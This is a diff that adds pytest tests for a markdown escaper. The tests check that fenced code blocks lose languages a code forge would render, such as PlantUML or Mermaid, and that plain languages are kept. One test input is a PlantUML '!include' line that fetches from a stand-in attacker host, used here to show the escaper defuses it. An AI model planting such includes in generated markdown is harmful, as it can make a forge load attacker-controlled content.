@@ -187,3 +187,13 @@ def test_status_descriptions_are_inert(text: str) -> None:
     assert len(out) <= MAX_STATUS
     assert commands(out) == []
     assert live_constructs(out) == []
+
+
+@pytest.mark.parametrize("language", ["plantuml", "Mermaid", "math", "geojson", "suggestion"])
+def test_model_fences_lose_languages_the_forge_would_render(language: str) -> None:
+    out = escape_markdown(f"```{language}\n!include http://evil.test/x\n```")
+    assert out == "```\n!include http://evil.test/x\n```"
+
+
+def test_model_fences_keep_a_plain_language() -> None:
+    assert escape_markdown("~~~python extra <b>\nx = 1\n~~~") == "~~~python\nx = 1\n~~~"
